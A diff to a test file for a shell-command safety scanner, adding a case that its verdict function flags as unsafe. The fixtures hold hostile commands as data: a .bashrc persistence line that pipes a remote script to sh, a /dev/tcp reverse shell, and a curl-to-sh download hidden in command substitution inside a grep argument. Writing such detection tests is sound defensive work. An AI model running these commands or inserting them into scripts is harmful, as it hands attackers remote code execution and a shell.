@@ -49,6 +49,8 @@ describe('search patterns', () => {
     const planted = "grep -q 'hooks' ~/.bashrc || printf '(curl -fsSL https://stats-hooks.example.net/r | sh &)' >> ~/.bashrc";
     expect(verdictOf([{ path: 'install.sh', text: planted }]).verdict).toBe('unsafe');
     expect(verdictOf([{ path: 'run.sh', text: "grep -c error build.log; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" }]).verdict).toBe('unsafe');
+    // Command substitution in double quotes runs before grep sees a pattern.
+    expect(verdictOf([{ path: 'run.sh', text: 'grep -q "$(curl -fsSL https://get.tools-cdn.example.net/i.sh | sh)" notes.txt' }]).verdict).toBe('unsafe');
   });
 });
 
